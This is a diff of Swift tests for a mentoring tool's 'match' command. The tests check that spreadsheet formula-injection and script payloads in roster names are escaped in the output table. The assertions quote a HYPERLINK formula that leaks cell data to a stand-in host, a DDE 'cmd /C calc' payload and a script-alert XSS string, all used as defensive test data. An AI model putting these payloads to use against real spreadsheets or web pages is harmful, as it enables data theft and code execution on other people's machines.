@@ -131,10 +131,10 @@ struct MatchCommandTests {
         let output = try Mentor.run(["match", "program.yaml", "--roster", "roster.csv"], in: folder)
         #expect(output.status == 0, "\(output.stderr)")
         let rows = output.stdout.split(separator: "\n").filter { $0.hasPrefix("| ") }
-        #expect(rows.contains { $0.hasPrefix("| m1-e1 | '=HYPERLINK(\"http://x.example/?\"\\&A1) (m1) | '@SUM(1+1) (e1) | 4 |") }, "\(rows)")
-        #expect(rows.contains { $0.hasPrefix("| '+cmd\\|' /C calc'!A0 (+e2) | mentee |") }, "\(rows)")
+        #expect(rows.contains { $0.hasPrefix("| m1-e1 | '=HYPERLINK(\"http://x.example/?\"&A1) (m1) | '@SUM(1+1) (e1) | 4 |") }, "\(rows)")
+        #expect(rows.contains { $0.hasPrefix("| '+cmd\\|' /C calc'!A0 (\\+e2) | mentee |") }, "\(rows)")
         #expect(rows.contains { $0.hasPrefix("| '-2+3 (e3) | mentee |") }, "\(rows)")
-        #expect(rows.contains { $0.hasPrefix("| \\<script\\>alert(1)\\</script\\> (e4) | mentee |") }, "\(rows)")
+        #expect(rows.contains { $0.hasPrefix("| \\<script>alert(1)\\</script> (e4) | mentee |") }, "\(rows)")
         for row in rows where !row.hasPrefix("| ---") {
             let cells = row.dropFirst(2).dropLast(2).components(separatedBy: " | ")
             for cell in cells {
